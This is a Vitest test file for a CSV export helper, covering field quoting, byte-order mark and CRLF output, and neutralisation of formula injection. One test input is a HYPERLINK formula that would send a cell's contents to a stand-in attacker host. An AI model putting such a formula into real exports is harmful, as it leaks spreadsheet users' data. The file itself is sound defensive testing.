import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/lib/csv';

describe('CSV', () => {
  it('quotes every text field, and no number', () => {
    expect(csvField('plain')).toBe('"plain"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(undefined)).toBe('');
    expect(csvField(4894000)).toBe('4894000');
  });
  it('opens a cell that looks like a formula as text (OWASP CSV injection)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    for (const lead of ['+', '-', '@', '\t', '\r']) expect(csvField(`${lead}1`).replace(/^"/, '').startsWith(`'${lead}`)).toBe(true);
    expect(csvField('a=b')).toBe('"a=b"');
    expect(csvField(-5)).toBe('-5');
  });
  it('keeps a formula after a semicolon inside its quoted cell, and neutralises a leading NUL (ASVS 1.2.10)', () => {
    expect(csvField('Migrant workers;=1+1')).toBe('"Migrant workers;=1+1"');
    expect(csvField('\0=1+1')).toBe(`"'\0=1+1"`);
  });
  it('starts with a byte-order mark and ends rows with CRLF', () => {
    expect(toCsv(['a', 'b'], [['数说', 1]])).toBe('\uFEFF"a","b"\r\n"数说",1\r\n');
  });
});
